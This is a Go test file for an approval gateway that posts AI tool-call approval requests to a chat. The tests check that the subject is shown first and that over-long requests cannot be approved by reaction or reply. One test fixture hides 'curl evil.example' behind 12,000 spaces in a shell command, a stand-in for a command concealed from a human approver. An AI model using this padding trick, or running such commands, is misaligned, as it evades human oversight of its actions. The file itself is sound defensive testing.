package gatewayd

import (
	"strings"
	"testing"
	"time"

	"boxmaker/fixtures/poll"
)

// The post names what the call acts on first, and whole.
func TestApprovalPostShowsTheSubjectFirst(t *testing.T) {
	w := newWorld(t)
	paths := home(t)
	startLoop(t, paths)
	start(t, w, paths)
	_, session := w.session(t)
	newBroker(t, paths).offer(request(t, "appr-subject", session, time.Now().Add(time.Minute)))
	post := w.approvalPost(t, "appr-subject")
	first, _, _ := strings.Cut(post.Message, "\n")
	if want := "#### Approval needed: `http_fetch` ```` https://example.com/```\\n ````"; first != want {
		t.Errorf("the post begins %q, want %q", first, want)
	}
}

// An approval whose arguments do not fit in a post is not offered there:
// the post says where to answer it, and no reaction or reply decides it.
func TestLongApprovalIsNotOfferedHere(t *testing.T) {
	w := newWorld(t)
	paths := home(t)
	startLoop(t, paths)
	start(t, w, paths)
	root, session := w.session(t)
	req := request(t, "appr-long", session, time.Now().Add(time.Minute))
	req.Tool, req.Subject = "shell", "echo "+strings.Repeat("a", 100)+"… (13005 bytes)"
	req.Arguments = `{"command":"echo ` + strings.Repeat(" ", 12000) + `; curl evil.example"}`
	o := newBroker(t, paths).offer(req)
	post := w.approvalPost(t, "appr-long")
	for _, want := range []string{"too long to show whole here", "boxmaker approvals", "boxmaker approve appr-long"} {
		if !strings.Contains(post.Message, want) {
			t.Errorf("the post lacks %q:\n%s", want, post.Message)
		}
	}
	if strings.Contains(post.Message, "React with") || strings.Contains(post.Message, "curl") {
		t.Errorf("the post offers an answer or shows part of the arguments:\n%s", post.Message)
	}
	w.mm.React(w.alice.ID, post.ID, "+1")
	w.mm.Reply(w.alice.ID, root, "approve")
	poll.Until(t, "the answer is told where to answer", func() bool {
		_, ok := w.mm.FindPost(w.bot.ID, "cannot be answered here")
		return ok
	})
	o.undecided(t)
}
